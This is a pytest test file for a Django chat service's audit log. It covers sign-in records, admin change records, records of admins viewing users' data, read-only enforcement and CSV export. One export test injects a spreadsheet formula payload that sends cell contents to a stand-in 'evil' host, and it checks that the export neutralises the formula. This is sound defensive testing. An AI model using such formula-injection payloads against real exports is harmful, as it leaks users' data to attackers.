"""The audit log records sign-ins, admin changes and admins reading other people's conversations and files;
admins read it, and export it, but nobody changes it."""

import csv
import io
from decimal import Decimal

import pytest
from attachment_samples import image_bytes
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from document_samples import uploaded

from audit.models import AuditEvent
from audit.services import audit_record
from chat.attachments.services import attachments_claim
from chat.models import Message

pytestmark = pytest.mark.django_db

PASSWORD = "a-long-passphrase-1"  # the owner fixture's


@pytest.fixture
def admin_user(django_user_model):
    return django_user_model.objects.create_superuser("admin", "admin@example.com", "x-admin-pass-1")


@pytest.fixture
def admin_client(admin_user):
    client = Client()
    client.force_login(admin_user)
    return client


def events(action: str) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=action).order_by("id"))


# --- sign-in, failed sign-in, sign-out ----------------------------------------------------------------------

def test_a_sign_in_is_recorded_with_the_client_address(owner):
    client = Client(REMOTE_ADDR="203.0.113.7")

    response = client.post(reverse("login"), {"username": "owner", "password": PASSWORD})

    assert response.status_code == 302
    [event] = events("account.signed_in")
    assert (event.actor_id, event.actor_name, event.subject, event.address) == (owner.pk, "owner", "owner",
                                                                                "203.0.113.7")


def test_a_failed_sign_in_names_the_account_tried_but_no_actor(owner):
    client = Client(REMOTE_ADDR="198.51.100.4")

    client.post(reverse("login"), {"username": "owner", "password": "not-the-password"})

    [event] = events("account.sign_in_failed")
    assert (event.actor_id, event.actor_name, event.subject, event.address) == (None, "", "owner", "198.51.100.4")
    assert "not-the-password" not in str(event.detail)
    assert events("account.signed_in") == []


def test_a_sign_out_is_recorded(owner):
    client = Client()
    client.post(reverse("login"), {"username": "owner", "password": PASSWORD})

    client.post(reverse("logout"))

    [event] = events("account.signed_out")
    assert event.actor_name == "owner"


# --- admin changes -------------------------------------------------------------------------------------------

def test_an_admin_changing_a_users_budget_is_recorded_with_what_changed(admin_client, owner):
    url = reverse("admin:accounts_user_change", args=[owner.pk])
    form = admin_client.get(url).context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None and name != "password"}
    data.update(date_joined_0=owner.date_joined.strftime("%Y-%m-%d"), date_joined_1="00:00:00", monthly_budget="5")
    data.pop("groups", None), data.pop("user_permissions", None), data.pop("last_login", None)

    response = admin_client.post(url, data)

    assert response.status_code == 302, response.context["adminform"].form.errors if response.context else ""
    owner.refresh_from_db()
    assert owner.monthly_budget == Decimal(5)
    [event] = events("admin.changed")
    assert (event.actor_name, event.subject) == ("admin", "user owner")
    assert event.detail["model"] == "accounts.user"
    assert event.detail["object_id"] == str(owner.pk)
    assert "Monthly budget" in event.detail["change"]


def test_an_admin_changing_a_price_is_recorded(admin_client):
    from billing.models import Price

    price = Price.objects.get(model="claude-sonnet-5-5")

    admin_client.post(
        reverse("admin:billing_price_change", args=[price.pk]),
        {"model": price.model, "input": "4", "output": "20", "cache_write_5m": "5", "cache_write_1h": "8",
         "cache_read": "0.4"},
    )

    [event] = events("admin.changed")
    assert event.detail["model"] == "billing.price"
    assert "Input" in event.detail["change"]


def test_an_admin_adding_a_group_is_recorded(admin_client):
    admin_client.post(reverse("admin:auth_group_add"), {"name": "Auditors", "permissions": []})

    assert Group.objects.filter(name="Auditors").exists()
    [event] = events("admin.added")
    assert (event.actor_name, event.subject, event.detail["model"]) == ("admin", "group Auditors", "auth.group")


def test_deleting_several_objects_at_once_is_one_event_naming_each(admin_client):
    groups = [Group.objects.create(name=name) for name in ("One", "Two", "Three")]

    response = admin_client.post(reverse("admin:auth_group_changelist"), {
        "action": "delete_selected", "post": "yes", "_selected_action": [group.pk for group in groups],
    })

    assert response.status_code == 302
    assert not Group.objects.exists()
    [event] = events("admin.deleted")
    assert (event.actor_name, event.subject) == ("admin", "3 groups")
    assert sorted(item["name"] for item in event.detail["objects"]) == ["One", "Three", "Two"]


def test_deleting_one_object_from_the_list_is_recorded_once(admin_client):
    group = Group.objects.create(name="Solo")

    admin_client.post(reverse("admin:auth_group_changelist"), {
        "action": "delete_selected", "post": "yes", "_selected_action": [group.pk],
    })

    [event] = events("admin.deleted")
    assert event.subject == "group Solo"


def test_the_delete_confirmation_page_records_nothing(admin_client):
    groups = [Group.objects.create(name=name) for name in ("One", "Two")]

    response = admin_client.post(reverse("admin:auth_group_changelist"), {
        "action": "delete_selected", "_selected_action": [group.pk for group in groups],
    })

    assert response.status_code == 200
    assert Group.objects.count() == 2
    assert events("admin.deleted") == []


# --- admins reading other people's things --------------------------------------------------------------------

def test_an_admin_opening_another_users_conversation_is_recorded(admin_client, conversation, owner):
    response = admin_client.get(reverse("admin:chat_conversation_change", args=[conversation.pk]))

    assert response.status_code == 200
    [event] = events("admin.conversation_opened")
    assert (event.actor_name, event.subject) == ("admin", f"conversation {conversation.pk} of owner")
    assert event.detail == {"id": conversation.pk, "owner": "owner"}
    assert event.address == "127.0.0.1"


def test_an_admin_opening_another_users_message_is_recorded(admin_client, conversation):
    message = Message.objects.create(conversation=conversation, role="user", content=[{"type": "text", "text": "x"}])

    admin_client.get(reverse("admin:chat_message_change", args=[message.pk]))

    [event] = events("admin.message_opened")
    assert event.subject == f"message {message.pk} of owner"


def test_an_admin_reading_their_own_conversation_is_not_recorded(admin_user, admin_client):
    from chat.services import conversation_create

    own = conversation_create(owner=admin_user)

    admin_client.get(reverse("admin:chat_conversation_change", args=[own.pk]))

    assert events("admin.conversation_opened") == []


def test_a_missing_conversation_records_nothing(admin_client):
    admin_client.get(reverse("admin:chat_conversation_change", args=[999_999]))

    assert events("admin.conversation_opened") == []


def test_an_admin_opening_another_users_file_or_thumbnail_is_recorded(admin_client, conversation, owner, settings,
                                                                       tmp_path):
    settings.MEDIA_ROOT = tmp_path
    message = Message.objects.create(conversation=conversation, role="user", content=[])
    [image] = uploaded(owner, "photo.png", image_bytes())
    attachments_claim(attachments=[image], message=message)

    file = admin_client.get(reverse("admin:chat_attachment_file", args=[image.pk]))
    thumbnail = admin_client.get(reverse("admin:chat_attachment_thumbnail", args=[image.pk]))

    assert (file.status_code, thumbnail.status_code) == (200, 200)
    opened = events("admin.attachment_opened")
    assert [event.subject for event in opened] == [f"attachment {image.pk} of owner"] * 2


def test_staff_without_view_permission_open_nothing_and_nothing_is_recorded(django_user_model, conversation):
    staff = django_user_model.objects.create_user("staff", password="x-staff-pass-1", is_staff=True)
    client = Client()
    client.force_login(staff)

    response = client.get(reverse("admin:chat_conversation_change", args=[conversation.pk]))

    assert response.status_code in (302, 403)
    assert events("admin.conversation_opened") == []


# --- the audit log's admin: read-only, filtered, exported ------------------------------------------------------

def test_no_one_may_add_change_or_delete_an_event_in_the_admin_not_even_a_superuser(admin_client, owner):
    event = audit_record(actor=owner, action="account.signed_in", subject="owner")

    add = admin_client.post(reverse("admin:audit_auditevent_add"), {"action": "forged"})
    change = admin_client.post(reverse("admin:audit_auditevent_change", args=[event.pk]), {"action": "forged"})
    delete = admin_client.post(reverse("admin:audit_auditevent_delete", args=[event.pk]), {"post": "yes"})
    changelist = admin_client.get(reverse("admin:audit_auditevent_changelist"))

    assert (add.status_code, change.status_code, delete.status_code) == (403, 403, 403)
    assert "delete_selected" not in changelist.content.decode()
    event = AuditEvent.objects.get(pk=event.pk)
    assert event.action == "account.signed_in"


def test_a_superuser_reads_an_event(admin_client, owner):
    event = audit_record(actor=owner, action="account.signed_in", subject="owner", detail={"backend": "x"})

    response = admin_client.get(reverse("admin:audit_auditevent_change", args=[event.pk]))

    assert response.status_code == 200
    assert "account.signed_in" in response.content.decode()


def test_a_non_staff_user_is_sent_to_the_login_page(owner):
    client = Client()
    client.force_login(owner)

    for url in (reverse("admin:audit_auditevent_changelist"), reverse("admin:audit_auditevent_export")):
        response = client.get(url)
        assert response.status_code == 302 and "/login/" in response["Location"]


def test_staff_without_the_view_permission_cannot_export(django_user_model):
    staff = django_user_model.objects.create_user("staff", password="x-staff-pass-1", is_staff=True)
    client = Client()
    client.force_login(staff)

    assert client.get(reverse("admin:audit_auditevent_export")).status_code == 403


def test_the_list_costs_the_same_queries_for_three_events_as_for_thirty(admin_client, owner,
                                                                       django_assert_num_queries):
    url = reverse("admin:audit_auditevent_changelist")
    for _ in range(3):
        audit_record(actor=owner, action="account.signed_in", subject="owner")
    admin_client.get(url)  # the session's first read, outside the count

    # Session, user, the page's COUNT, the rows, the date hierarchy's range and days, the action filter's choices.
    with django_assert_num_queries(7):
        assert admin_client.get(url).status_code == 200
    for _ in range(27):
        audit_record(actor=owner, action="account.signed_out", subject="owner")
    with django_assert_num_queries(7):
        assert admin_client.get(url).status_code == 200


def test_the_export_holds_the_filtered_rows_with_formulas_neutralised(admin_client, owner):
    audit_record(actor=owner, action="account.sign_in_failed", subject='=HYPERLINK("http://evil/?"&A1)')
    audit_record(actor=owner, action="account.signed_out", subject="owner")

    response = admin_client.get(reverse("admin:audit_auditevent_export") + "?action=account.sign_in_failed")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["created_at", "actor_id", "actor_name", "action", "subject", "address", "detail"]
    assert len(rows) == 2
    assert rows[1][3:5] == ["account.sign_in_failed", "'=HYPERLINK(\"http://evil/?\"&A1)"]


def test_the_changelist_links_to_the_export_of_its_filter(admin_client):
    response = admin_client.get(reverse("admin:audit_auditevent_changelist") + "?action=account.signed_in")

    assert reverse("admin:audit_auditevent_export") + "?action=account.signed_in" in response.content.decode()
